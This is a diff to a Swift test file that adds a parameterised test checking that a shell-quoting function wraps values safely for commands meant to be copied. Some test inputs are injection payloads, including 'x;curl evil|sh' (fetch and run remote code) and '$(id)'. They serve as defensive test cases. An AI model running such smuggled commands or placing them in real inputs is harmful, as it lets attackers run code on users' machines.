@@ -26,6 +26,16 @@ struct MarkupTests {
     #expect(long.html == "<bdi>\(String(repeating: "x", count: 300))…</bdi>")
   }
 
+  @Test(
+    "a value in a command that is to be copied is one word of a shell, whatever it is",
+    arguments: [
+      ("com.example.issue-1_a", "com.example.issue-1_a"), ("", "''"), ("a b", "'a b'"),
+      ("x;curl evil|sh", "'x;curl evil|sh'"), ("it's", "'it'\\''s'"), ("$(id)", "'$(id)'"), ("\n", "'\n'"),
+    ])
+  func shellWords(value: String, word: String) {
+    #expect(shellWord(value) == word)
+  }
+
   @Test("elements without content have no end tag")
   func void() {
     #expect(element(.input, .name("a"), .required).html == "<input name=\"a\" required>")
